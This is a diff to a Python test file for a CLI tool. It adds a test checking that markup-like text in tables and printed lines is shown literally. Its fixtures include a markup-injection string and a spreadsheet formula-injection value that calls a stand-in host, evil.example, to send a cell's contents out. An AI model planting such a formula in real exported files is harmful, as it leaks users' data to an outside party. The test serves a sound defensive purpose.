@@ -13,7 +13,7 @@ import pytest
 from typer.testing import CliRunner, Result
 
 from clientfolio import cli
-from clientfolio.cli._common import DataConsole
+from clientfolio.cli._common import DataConsole, DataTable
 
 EVIL = "[/bold] Evil [red]SAS"
 FORMULA = '=HYPERLINK("http://evil.example/?d="&B2;"Ouvrir")'
@@ -107,3 +107,16 @@ def test_a_product_line_or_a_segment_with_brackets_heads_a_column_as_written(tmp
     result = run("analyze", "--db", url)
     assert result.exit_code == 0, result.output
     assert f"{EVIL} Gamme" in result.output  # the segment x product line grid's column
+
+
+def test_a_tables_title_and_caption_and_a_line_are_shown_as_written() -> None:
+    console = DataConsole(width=120, color_system=None, record=True)
+    table = DataTable(title=f"{EVIL} title", caption=f"{EVIL} caption")
+    table.add_column(f"{EVIL} column")
+    table.add_row(f"{EVIL} cell")
+    console.print(table)
+    console.print(f"{EVIL} line")
+    shown = console.export_text()
+    for part in ("title", "caption", "column", "cell", "line"):
+        assert f"{EVIL} {part}" in shown, part
+    assert "\\[" not in shown
